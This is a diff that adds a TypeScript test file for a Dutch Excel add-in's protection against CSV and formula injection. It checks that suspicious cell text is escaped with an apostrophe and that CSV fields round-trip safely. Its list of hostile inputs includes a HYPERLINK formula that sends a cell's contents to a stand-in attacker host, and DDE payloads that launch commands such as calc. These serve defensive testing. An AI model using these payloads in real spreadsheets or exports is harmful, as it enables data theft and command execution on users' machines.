@@ -1,0 +1,66 @@
+import { parse } from 'csv-parse/sync'
+import { assert, constantFrom, oneof, property, string } from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { LANGSTE_CELTEKST, isVerdacht, safeCell, safeCsv } from '../../../addin/excel/veilige-tekst.ts'
+
+const VIJANDIG = [
+  '=1+1',
+  '+31612345678',
+  '-2+3',
+  '@SUM(A1)',
+  '=HYPERLINK("https://kwaad.example?"&A1,"klik")',
+  "=cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  '\u00a0=1+1',
+  '\ufeff=1+1',
+  '＝1+1',
+  '|calc',
+]
+
+describe('text that could be a formula', () => {
+  it.each(VIJANDIG)('%j is put in a cell behind an apostrophe, which makes it text', (tekst) => {
+    expect(isVerdacht(tekst)).toBe(true)
+    expect(safeCell(tekst)).toBe(`'${tekst}`)
+  })
+
+  it.each(['Jansen', '% hersteld', "d'Hondt", 'A=B', '12-3-2026', 'a@b.nl', '<img src=x onerror=alert(1)>', '', '€ 12,50'])(
+    '%j is left as it is',
+    (tekst) => expect(safeCell(tekst)).toBe(tekst),
+  )
+
+  it('keeps an apostrophe that the text itself begins with', () => expect(safeCell("'t Hart")).toBe("''t Hart"))
+
+  it('is cut off where a cell ends, and then says so', () => {
+    const lang = 'x'.repeat(LANGSTE_CELTEKST + 10)
+    expect(safeCell(lang)).toHaveLength(LANGSTE_CELTEKST)
+    expect(safeCell(lang).endsWith('…')).toBe(true)
+    expect(safeCell('x'.repeat(LANGSTE_CELTEKST))).toBe('x'.repeat(LANGSTE_CELTEKST))
+  })
+})
+
+describe('a field of a CSV file', () => {
+  it.each([
+    [null, ''],
+    [12.5, '12,5'],
+    [-3, '-3'],
+    [true, 'WAAR'],
+    ['-3', "'-3"],
+    ['Jansen; P.', '"Jansen; P."'],
+    ['zegt "nee"', '"zegt ""nee"""'],
+    ['twee\nregels', '"twee\nregels"'],
+  ])('%j is written as %j', (waarde, veld) => expect(safeCsv(waarde)).toBe(veld))
+
+  it('reads back as one field with the same text, and never as a formula', () => {
+    assert(
+      property(oneof(string({ unit: 'grapheme' }), constantFrom(...VIJANDIG)), (tekst) => {
+        const [[veld, volgende] = []] = parse(`${safeCsv(tekst)};einde\r\n`, { delimiter: ';', relax_quotes: false })
+        expect(volgende).toBe('einde')
+        expect(veld).toBe(isVerdacht(tekst) ? `'${tekst}` : tekst)
+        expect(isVerdacht(veld ?? '')).toBe(false)
+      }),
+    )
+  })
+})
